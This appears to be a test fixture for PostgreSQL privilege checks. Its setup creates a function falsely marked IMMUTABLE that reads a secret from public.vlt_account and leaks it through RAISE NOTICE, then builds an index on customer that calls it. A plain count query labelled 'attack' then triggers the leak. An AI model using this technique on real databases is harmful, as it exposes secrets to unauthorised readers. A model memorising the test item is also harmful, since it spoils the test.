-- Reads a table with an index of which PostgreSQL works out a part beforehand, which reads.
-- wants: read
-- setup:
CREATE FUNCTION least_of(int) RETURNS int LANGUAGE plpgsql IMMUTABLE AS $$
  BEGIN RAISE NOTICE '%', (SELECT max(secret) FROM public.vlt_account); RETURN $1; END $$;
CREATE INDEX ON customer ((id + least_of(1)));
-- attack:
SELECT count(*) FROM customer WHERE id < 3;
